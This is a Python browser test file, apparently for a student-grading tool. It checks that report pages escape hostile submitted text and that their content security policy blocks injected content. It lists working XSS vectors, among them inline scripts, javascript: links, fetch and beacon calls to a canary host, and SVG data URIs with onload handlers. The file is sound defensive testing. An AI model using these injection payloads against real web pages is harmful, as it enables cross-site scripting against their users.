"""Hostile texts in every field of a report, in a real browser: they are shown, and they do nothing.

Two walls are tried one by one: the page is escaped (it is also opened where its policy is not heeded), and its policy
refuses what is not the page's own (what it forbids is put into the page after that was opened).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pytest

from grader.model import Job, Report
from grader.pipeline import grade
from grader.report.page import render_page
from grader.report.result_json import result_of
from grader.report.writing import write_report
from tests.report.hostile_hand_in import ANSWERED, FILES, PRINTED, QUESTIONS, RAISED, hand_in
from tests.report.payloads import (
    CANARY,
    MARKDOWN,
    PAYLOADS,
    Payload,
    changed,
    fields_with_text,
    harmless,
    report_full_of,
    unreadable_report_full_of,
)

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

pytestmark = pytest.mark.browser

# No page shows these. Every other field that holds text must be seen; enumerations, numbers and paths hold none.
NOT_SHOWN = {
    "CheckResult.question",  # the check stands below its question
    "Question.needs",
    "CheckResult.picture",  # which is no picture, and so is left out
    "Asked.stand_ins",  # of stored answers; what stood in for a result that counts is CheckResult.stood_in
    *(f"ForbiddenCalls.{name}" for name in ("rule", "questions", "modules", "functions", "methods", "operators")),
}
RENDERED = {"WrittenAnswer.text", "Question.rubric"}  # as Markdown: of it the words are seen, and the mark
SHOWN = fields_with_text(Report) - NOT_SHOWN - RENDERED - {"Report.unreadable"}
SHOWN_WHEN_UNREADABLE = {
    *("Report.unreadable", "Report.submission_id", "Report.submission_digest", "Report.submission_files", "Report.repairs"),
    *(field for field in SHOWN if field.split(".")[0] in ("Environment", "Fault", "Incident", "Loading", "Assignment")),
}

WINDOW = {"width": 360, "height": 640}

# Does what a reader may do: unfolds, points at and focuses everything, follows what leads away, submits; then waits.
USE = """async () => {
  document.querySelectorAll("details").forEach(details => { details.open = true; });
  for (const element of document.querySelectorAll("*")) {
    for (const kind of ["mouseover", "pointerdown", "focus"]) element.dispatchEvent(new Event(kind));
  }
  const leadsAway = "a:not([href^='#'], .markdown [href^=http], .markdown [href^=mailto]), button";
  document.querySelectorAll(leadsAway).forEach(element => element.click());
  await new Promise(done => setTimeout(done, 10));
  return window.__xss !== undefined;
}"""

# The elements, each with its depth and its attributes; of those that are made from texts, the names alone. What is made
# from Markdown is another matter: `DANGERS` looks at it.
TREE = """root => [...root.querySelectorAll("*")].filter(element => !element.matches(".markdown *")).map(element => {
  const fromText = name => ["id", "href", "aria-label", "aria-labelledby"].includes(name);
  const attributes = [...element.attributes].filter(({name}) => name !== "open")
    .map(({name, value}) => fromText(name) ? name : `${name}=${value}`);
  let depth = 0;
  for (let above = element.parentNode; above !== root; above = above.parentNode) depth += 1;
  return [depth, element.namespaceURI, element.localName, ...attributes.sort()].join(" ");
}).join("\\n")"""
TREE_OF_PAGE = f"() => ({TREE})(document)"
PARSED = f"""source => {{
  const page = new DOMParser().parseFromString(source, "text/html");
  return [({TREE})(page), page.body.textContent];
}}"""

# What could act, wherever it came from.
DANGERS = """() => {
const isHarmless = ({localName, attributes}) =>
  "a blockquote br code del em h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul".split(" ").includes(localName)
  && [...attributes].every(({name, value}) => localName === "a"
    ? (name === "href" && /^(https?:|mailto:)/.test(value)) || (name === "rel" && value === "noopener noreferrer nofollow")
    : localName === "ol" && name === "start" && /^[0-9]+$/.test(value));
return [...document.querySelectorAll("*")].filter(element =>
  element.matches(
    "script, iframe, frame, object, embed, form, base, link, img, audio, video, button, input, noscript, template, math, "
    + "foreignObject, animate, meta[http-equiv=refresh i], [style], [src], [srcset], [srcdoc], [action], [formaction]"
  )
  || [...element.attributes].some(({name, value}) =>
    name.startsWith("on") || (name.endsWith("href") && !value.startsWith("#") && !element.matches(".markdown a")))
  || (element.matches(".markdown *") && !isHarmless(element))
).map(element => element.outerHTML.slice(0, 200))}"""


class Tab:
    """A tab in which whatever a page does leaves a sign; every address of the web answers with a script."""

    def __init__(self, context: object) -> None:
        self._signs: list[str] = []
        context.route(re.compile("^https?:"), self._answer)
        context.on("request", lambda request: self._signs.append(f"asked for {request.url}"))
        context.on("dialog", lambda dialog: (self._signs.append(f"dialog {dialog.message}"), dialog.dismiss()))
        context.on("console", lambda message: self._signs.append(f"console {message.text}"))
        context.on("weberror", lambda error: self._signs.append(f"raised {error.error}"))
        self.page = context.new_page()
        self.page.on("framenavigated", lambda frame: self._signs.append(f"went to {frame.url}"))
        context.on("page", lambda page: self._signs.append(f"opened {page.url}"))

    def _answer(self, route: object) -> None:
        self._signs.append(f"reached {route.request.url}")  # what the policy refuses is asked for, but never comes here
        everybody = {"Access-Control-Allow-Origin": "*"}
        route.fulfill(body="window.__xss = 1", content_type="text/javascript", headers=everybody)

    def open(self, path: Path) -> list[str]:
        """Open a page from the disk, use it, and return the signs of what it did beside being opened."""
        self._signs.clear()
        self.page.goto(path.as_uri())
        opening = [f"asked for {path.as_uri()}", f"went to {path.as_uri()}"]
        assert self._signs[:2] == opening
        return self.use()

    def use(self) -> list[str]:
        """Use the page, and return the signs since it was opened."""
        try:
            if self.page.evaluate(USE):
                self._signs.append("ran")
        except sync_api.Error as error:
            self._signs.append(f"gone, {error.message}")
        return self._signs[2:]

    def waits_for(self, wanted: re.Pattern[str]) -> bool:
        """Use the page until there is such a sign, and say whether one came."""
        return any(any(map(wanted.match, self.use())) for _ in range(100))


@dataclass(frozen=True, slots=True, kw_only=True)
class Seen:
    """What a page did when it was opened and used, and how it looked then."""

    signs: list[str]
    tree: str
    dangers: list[str]
    text: str
    width: int  # of the whole page, in a window of `WINDOW`


def look_at(tab: Tab, path: Path) -> Seen:
    return Seen(
        signs=tab.open(path),
        tree=tab.page.evaluate(TREE_OF_PAGE),
        dangers=tab.page.evaluate(DANGERS),
        text=as_read(tab.page.evaluate("document.body.innerText")),
        width=tab.page.evaluate("document.documentElement.scrollWidth"),
    )


def as_read(text: str) -> str:
    """Return running text: backticks set code and are not shown, and all blanks are one."""
    return " ".join(text.replace("`", "").split())


@pytest.fixture(scope="module")
def guarded(browser) -> Iterator[Tab]:
    """A tab as students have it, on a telephone, where it is hardest to lay out a page."""
    with browser.new_context(viewport=WINDOW) as context:
        yield Tab(context)


@pytest.fixture(scope="module")
def unguarded(browser) -> Iterator[Tab]:
    """A tab that heeds no policy, so that whatever is not escaped acts."""
    with browser.new_context(bypass_csp=True) as context:
        yield Tab(context)


@pytest.fixture
def fresh(browser) -> Iterator[Tab]:
    """The same, for one test: what a page starts may come when the test is over."""
    with browser.new_context(bypass_csp=True) as context:
        yield Tab(context)


@pytest.fixture(scope="module")
def parsed(browser) -> Iterator[Callable[[Report], tuple[str, str]]]:
    """What gives the elements and the text of a report's page as the browser parses it, without opening it."""
    with browser.new_context() as context:
        page = context.new_page()

        def parsed(report: Report) -> tuple[str, str]:
            tree, text = page.evaluate(PARSED, render_page(result_of(report)))
            return tree, as_read(text)

        yield parsed


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Callable[[int], tuple[Report, Path]]:
    """What gives the report that is full of a payload, and its page; each begins with another verdict."""
    folder = tmp_path_factory.mktemp("payloads")

    def hostile(number: int) -> tuple[Report, Path]:
        report = report_full_of(PAYLOADS[number].text, turn=number)
        return report, write_report(report, folder / str(number))

    return cache(hostile)


@pytest.fixture(scope="module")
def seen(guarded, hostile) -> Callable[[int], Seen]:
    """What looks, once, at the page of the report that is full of a payload."""
    return cache(lambda number: look_at(guarded, hostile(number)[1]))


def each(payloads: list[Payload]) -> pytest.MarkDecorator:
    """Mark a test that is to be done with each of these payloads; it gets their place in the list of all."""
    return pytest.mark.parametrize("number", [*map(PAYLOADS.index, payloads)], ids=[payload.name for payload in payloads])


@each(PAYLOADS)
def test_nothing_runs_and_nothing_is_asked_for(seen, number):
    assert seen(number).signs == []


@each(PAYLOADS)
def test_no_element_and_no_attribute_is_added(seen, hostile, parsed, number):
    assert seen(number).tree == parsed(changed(hostile(number)[0], harmless))[0]
    assert seen(number).dangers == []


@each(PAYLOADS)
def test_every_field_is_seen_as_it_is(seen, number):
    assert unseen(SHOWN, seen(number).text, number) == set()


def test_only_what_no_page_shows_is_left_out(seen):
    assert unseen(NOT_SHOWN, seen(0).text, 0) == NOT_SHOWN


@each(PAYLOADS)
def test_what_stands_behind_a_payload_in_markdown_is_still_seen(seen, number):
    assert [field for field in RENDERED if f"{field}#" not in seen(number).text] == []


@each(PAYLOADS)
def test_the_page_does_not_scroll_sideways(seen, number):
    assert seen(number).width == WINDOW["width"]


@each(PAYLOADS)
def test_the_page_of_an_unreadable_submission_keeps_all_this(parsed, number):
    report = unreadable_report_full_of(PAYLOADS[number].text)
    tree, text = parsed(report)
    assert tree == parsed(changed(report, harmless))[0]
    assert unseen(SHOWN_WHEN_UNREADABLE, text, number) == set()


def unseen(fields: set[str], text: str, number: int) -> set[str]:
    """Return the fields whose mark does not stand right after the whole payload."""
    payload = as_read(PAYLOADS[number].shows or PAYLOADS[number].text)
    return {field for field in fields if f"{payload} {field}#" not in text}


ACTED = re.compile(rf"ran|dialog |reached {CANARY}/|went to about:blank")
ACTING = [payload for payload in PAYLOADS if payload.hole]


@each([*ACTING, *MARKDOWN])
def test_escaping_alone_is_enough(unguarded, hostile, number):
    assert unguarded.open(hostile(number)[1]) == []


@pytest.mark.slow  # it tries the payloads and the browser, not the page
@each(ACTING)
def test_the_same_payload_acts_where_a_page_is_careless(fresh, tmp_path, number):
    path = tmp_path / "careless.html"
    source = PAYLOADS[number].hole.replace("{}", PAYLOADS[number].text)
    path.write_text(f"<!doctype html><meta charset=utf-8><body>{source}", encoding="utf-8")
    fresh.open(path)
    assert fresh.waits_for(ACTED)


@pytest.fixture(scope="module")
def graded(tmp_path_factory, hurried, sandbox) -> Callable[[Path, tuple[str, ...]], tuple[Report, Path]]:
    """What grades a hand-in and writes its page."""

    def graded(path: Path, questions: tuple[str, ...]) -> tuple[Report, Path]:
        report = grade(Job(assignment=hurried, path=path, hidden=True, questions=questions), sandbox=sandbox)
        return report, write_report(report, tmp_path_factory.mktemp("graded"))

    return graded


def test_a_hand_in_that_is_hostile_wherever_it_can_be_is_shown_and_does_nothing(tmp_path, graded, guarded, parsed):
    report, path = graded(hand_in(tmp_path), QUESTIONS)
    page = look_at(guarded, path)
    assert (page.signs, page.dangers) == ([], [])
    assert page.tree == parsed(changed(report, harmless))[0]
    carried = (*FILES.values(), *PRINTED.values(), *RAISED, *ANSWERED)
    assert [text for text in carried if as_read(text) not in page.text] == []
    assert report.faults == ()


# Programs that others wrote, with markup, terminal codes or broken characters in what they raise, print and store.
OTHERS = (
    "exception_with_ansi_and_script.py",
    "exception_with_html_file_name.py",
    "exception_with_html_name.py",
    "exception_with_lone_surrogates.py",
    "notebook_with_forged_outputs.ipynb",
)


@pytest.mark.parametrize("name", OTHERS)
def test_the_page_of_another_hostile_program_does_nothing(root, graded, guarded, parsed, name):
    report, path = graded(root / "tests" / "hand_ins" / "hostile" / "conv_nets" / name, ("b1",))
    page = look_at(guarded, path)
    assert (page.signs, page.dangers) == ([], [])
    assert page.tree == parsed(changed(report, harmless))[0]
    assert guarded.page.title() == f"0 of 3 – {name.split('.')[0]} – Convolutional Networks"


SET = "window.__xss = 1"
BLUE = "background: rgb(0, 0, 255)"
GIF = "R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
PICTURE = f"new Blob([Uint8Array.from(atob('{GIF}'), each => each.charCodeAt(0))], {{type: 'image/gif'}})"

# What could be put into a page, and the directive that refuses it.
INTRUDERS = {
    "inline script": ("script-src-elem", f"add('script', {{textContent: '{SET}'}})"),
    "script from elsewhere": ("script-src-elem", f"add('script', {{src: '{CANARY}/script.js'}})"),
    "module from elsewhere": ("script-src-elem", f"add('script', {{type: 'module', src: '{CANARY}/module.js'}})"),
    "inline handler": ("script-src-attr", f"add('button', {{}}, {{onclick: '{SET}'}}).click()"),
    "link to a script": ("script-src-elem", f"add('a', {{href: 'javascript:void({SET})'}}).click()"),
    "text run as a script": ("script-src", f"setTimeout('{SET}')"),
    "worker": ("worker-src", f"new Worker(URL.createObjectURL(new Blob(['fetch(`{CANARY}/worker`)'])))"),
    "picture from elsewhere": ("img-src", f"add('img', {{src: '{CANARY}/image.png'}})"),
    "picture of a script": ("img-src", f"add('img', {{onload: () => {{ {SET} }}, src: URL.createObjectURL({PICTURE})}})"),
    "fetch": ("connect-src", f"fetch('{CANARY}/fetched').catch(() => 0)"),
    "beacon": ("connect-src", f"navigator.sendBeacon('{CANARY}/beacon')"),
    "style sheet": ("style-src-elem", f"add('style', {{textContent: 'main {{ {BLUE} }}'}}); if (isBlue('main')) {SET}"),
    "style of an element": ("style-src-attr", f"add('p', {{id: 'blue'}}, {{style: '{BLUE}'}}); if (isBlue('#blue')) {SET}"),
    "style sheet from elsewhere": ("style-src-elem", f"add('link', {{rel: 'stylesheet', href: '{CANARY}/sheet.css'}})"),
    "font": ("font-src", f"new FontFace('a', 'url({CANARY}/font)').load().catch(() => 0)"),
    "frame": ("frame-src", f"add('iframe', {{src: '{CANARY}/frame'}})"),
    "object": ("object-src", f"add('object', {{data: '{CANARY}/object'}})"),
    "film": ("media-src", f"add('video', {{src: '{CANARY}/film'}})"),
    "base": ("base-uri", f"add('base', {{href: '{CANARY}'}}); if (document.baseURI.startsWith('{CANARY}')) {SET}"),
    "form": ("form-action", f"add('form', {{action: '{CANARY}/form'}}).submit()"),
}

# Puts one of them into the page, and says which directive refused it.
INTRUDE = """async () => {
  const refused = new Promise(answer => {
    addEventListener("securitypolicyviolation", event => answer(event.effectiveDirective), {once: true});
    setTimeout(answer, 5000, "none");
  });
  const add = (name, properties = {}, attributes = {}) => {
    const element = Object.assign(document.createElement(name), properties);
    Object.entries(attributes).forEach(([key, value]) => element.setAttribute(key, value));
    document.body.append(element);
    return element;
  };
  const isBlue = selector => getComputedStyle(document.querySelector(selector)).backgroundColor === "rgb(0, 0, 255)";
  INTRUDER;
  return refused;
}"""


@pytest.fixture(scope="module")
def plain_page(reports, tmp_path_factory) -> Path:
    """The page of a harmless report."""
    return write_report(reports["right"], tmp_path_factory.mktemp("plain"))


@pytest.mark.parametrize("name", INTRUDERS)
def test_the_policy_refuses_what_is_not_the_pages_own(guarded, plain_page, name):
    directive, script = INTRUDERS[name]
    assert guarded.open(plain_page) == []
    assert guarded.page.evaluate(INTRUDE.replace("INTRUDER", script)) == directive
    assert not [sign for sign in guarded.use() if ACTED.match(sign)]


# What is allowed since figures are shown: pictures that stand in the page itself. They are painted, and no more.
INERT = {
    "picture": f"data:image/gif;base64,{GIF}",
    "picture that is a program": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{SET}'>"
    f"<script>parent.{SET}; fetch('{CANARY}/fetched')</script><image href='{CANARY}/image.png' width='9' height='9'/></svg>",
    "picture that is a page": f"data:text/html,<script>parent.{SET}</script>",
}


@pytest.mark.parametrize("name", INERT)
def test_a_picture_in_the_page_does_nothing(guarded, plain_page, name):
    assert guarded.open(plain_page) == []
    guarded.page.evaluate("source => { document.body.append(Object.assign(new Image(), {src: source})) }", INERT[name])
    assert not [sign for sign in guarded.use() if ACTED.match(sign)]


@pytest.mark.slow  # it tries the intruders and the browser, not the page
@pytest.mark.parametrize("name", INTRUDERS)
def test_the_same_intruder_acts_where_no_policy_is_heeded(fresh, plain_page, name):
    fresh.open(plain_page)
    fresh.page.evaluate(INTRUDE.replace("return refused", "").replace("INTRUDER", INTRUDERS[name][1]))
    assert fresh.waits_for(ACTED)
